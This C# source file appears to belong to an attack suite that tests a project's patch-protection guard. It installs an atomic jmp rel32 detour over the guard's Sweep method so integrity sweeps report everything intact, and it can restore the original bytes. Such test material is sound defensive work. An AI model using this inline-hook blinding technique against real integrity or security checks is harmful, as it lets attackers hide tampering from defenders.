using System.Runtime.CompilerServices;

namespace Palisade.Attacks.GuardCodePatch;

/// <summary>
/// Detours guard context 0's own copy of the sweep (GuardContext.Sweep&lt;GuardTag0&gt;) to a method that reports
/// "all intact" without looking, the first step of blinding a patch protection. Dispose restores the code.
/// </summary>
public sealed class GuardCodePatchAttack : IDisposable
{
    private static long s_blinded;
    private nint _patched;
    private byte[]? _original;

    /// <summary>How many sweeps the patch has skipped.</summary>
    public static long BlindedSweeps => Interlocked.Read(ref s_blinded);

    /// <summary>Installs the detour.</summary>
    public void Install()
    {
        var sweep = Rootkit.KernelMethod(
            "Palisade.Kernel.Guard.GuardContext",
            "Sweep",
            Rootkit.KernelType("Palisade.Kernel.Guard.GuardTag0"));
        var replacement = typeof(GuardCodePatchAttack).GetMethod(nameof(BlindSweep), System.Reflection.BindingFlags.Static | System.Reflection.BindingFlags.NonPublic)!;
        nint body = Rootkit.BodyOf(sweep);
        long rel = (long)Rootkit.StubOf(replacement) - ((long)body + 5);
        if (rel is < int.MinValue or > int.MaxValue)
        {
            throw new InvalidOperationException("The replacement is out of rel32 reach.");
        }

        // Eight bytes written at once (jmp rel32 plus the original next three) so a guard thread entering the
        // sweep never sees half an instruction.
        byte[] current = new byte[8];
        unsafe
        {
            new ReadOnlySpan<byte>((void*)body, 8).CopyTo(current);
        }

        current[0] = 0xE9;
        BitConverter.TryWriteBytes(current.AsSpan(1), (int)rel);
        _original = Rootkit.Write(body, current);
        _patched = body;
    }

    /// <summary>Restores the original code.</summary>
    public void Dispose()
    {
        if (_original is not null)
        {
            Rootkit.Write(_patched, _original);
            _original = null;
        }
    }

    [MethodImpl(MethodImplOptions.NoInlining | MethodImplOptions.AggressiveOptimization)]
    private static bool BlindSweep(object context)
    {
        Interlocked.Increment(ref s_blinded);
        return true;
    }
}
